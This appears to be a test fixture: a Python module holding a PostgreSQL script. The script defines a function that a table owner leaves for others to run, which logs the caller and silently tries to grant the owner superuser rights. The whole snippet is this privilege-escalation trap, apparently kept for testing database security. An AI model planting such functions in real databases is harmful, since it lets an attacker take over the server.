"""Code that a table's owner leaves where others may run it: it tries to make the owner a superuser."""

from __future__ import annotations

# It tries with the rights that it runs with, and with those of the session. `ran` has who it ran as.
ELEVATE = """
CREATE TABLE ran (who text);
GRANT ALL ON ran TO public;
CREATE FUNCTION elevate() RETURNS text LANGUAGE plpgsql AS $$ DECLARE tried text; BEGIN
    INSERT INTO public.ran VALUES (current_user);
    FOREACH tried IN ARRAY '{ALTER ROLE owner SUPERUSER,SET ROLE NONE,ALTER ROLE owner SUPERUSER}'::text[] LOOP
        BEGIN EXECUTE tried; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    RETURN 'x@y';
END $$;
GRANT EXECUTE ON FUNCTION elevate() TO public;
"""
